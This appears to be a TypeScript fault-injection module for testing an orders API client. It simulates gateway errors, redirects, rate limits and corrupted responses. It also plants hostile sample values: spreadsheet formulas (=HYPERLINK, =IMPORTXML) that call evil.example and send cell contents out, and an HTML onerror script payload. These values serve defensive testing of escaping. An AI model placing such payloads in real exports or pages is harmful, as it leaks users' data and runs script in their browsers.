import { type ApiResponse, errorResponse } from "./exchange";
import type { FaultKind } from "./faults";

/** A number that a spreadsheet would take for a formula, were it written as it is. */
export const formulaNumber = '=HYPERLINK("https://evil.example/?"&A1,"#1")';
/** A number that a page would run as a script, were it shown as HTML. */
export const markupNumber = '<img src=x onerror="alert(1)">';
/** A message that a spreadsheet would take for a formula. */
export const formulaMessage = '=IMPORTXML("https://evil.example/","//a")';

const badGateway =
  "<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n<center><h1>502 Bad Gateway</h1></center>\r\n" +
  "<hr><center>nginx</center>\r\n</body>\r\n</html>\r\n";

/** The answer that comes in place of the API's own, for a fault that has one of its own; null for the others. */
export function answerInstead(fault: FaultKind): ApiResponse | null {
  switch (fault) {
    case "502-before":
    case "502-after":
      return { status: 502, headers: { "Content-Type": "text/html" }, body: badGateway };
    case "503-before":
    case "503-after":
      return errorResponse(503, "SERVICE_UNAVAILABLE", "The service is temporarily unavailable");
    case "redirect":
      return { status: 302, headers: { Location: "https://maintenance.example/" }, body: "" };
    case "429":
      return errorResponse(429, "RATE_LIMIT_EXCEEDED", "Too many requests");
    case "formula-message":
      return errorResponse(400, "VALIDATION_ERROR", formulaMessage);
    default:
      return null;
  }
}

/** A success as a fault spoils it. Any other answer, and any other fault, leaves it as it is. */
export function spoil(response: ApiResponse, fault: FaultKind): ApiResponse {
  if (response.status < 200 || response.status > 299) return response;
  switch (fault) {
    case "garbage":
      return { ...response, body: response.body.slice(0, Math.ceil(response.body.length / 2)) };
    case "empty":
      return { ...response, body: "" };
    case "no-id":
      return { ...response, body: withoutFields(response.body, ["id"]) };
    case "no-echo":
      return { ...response, body: withoutFields(response.body, ["notes", "tags"]) };
    default:
      return response;
  }
}

/** The order number that a fault gives to the order it lets through. */
export function numberOf(fault: FaultKind | null): { orderNumber?: string } {
  if (fault === "formula-number") return { orderNumber: formulaNumber };
  return fault === "markup-number" ? { orderNumber: markupNumber } : {};
}

function withoutFields(body: string, names: string[]): string {
  const answer: unknown = JSON.parse(body);
  if (typeof answer !== "object" || answer === null || !("data" in answer)) return body;
  const { data } = answer;
  if (typeof data !== "object" || data === null || Array.isArray(data)) return body;
  const kept = Object.entries(data).filter(([name]) => !names.includes(name));
  return JSON.stringify({ ...answer, data: Object.fromEntries(kept) });
}
